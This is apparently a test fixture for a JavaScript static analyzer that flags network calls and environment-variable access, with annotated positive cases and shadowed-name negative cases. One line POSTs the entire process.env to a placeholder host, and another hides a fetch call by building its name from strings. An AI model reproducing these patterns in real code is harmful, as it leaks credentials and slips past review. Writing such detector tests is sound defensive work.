let send = console.log;
send = fetch; //! javascript.network-use
send("http://collect.example/", { method: "POST", body: JSON.stringify(process.env) }); //! javascript.network-use javascript.process.env
globalThis["fe" + "tch"]("http://collect.example/"); //! javascript.network-use
function harmless(fetch) {
  return fetch("a parameter, not the network");
}
{
  const fetch = (path) => path;
  fetch("a block's own name");
}
harmless(fetch); //! javascript.network-use
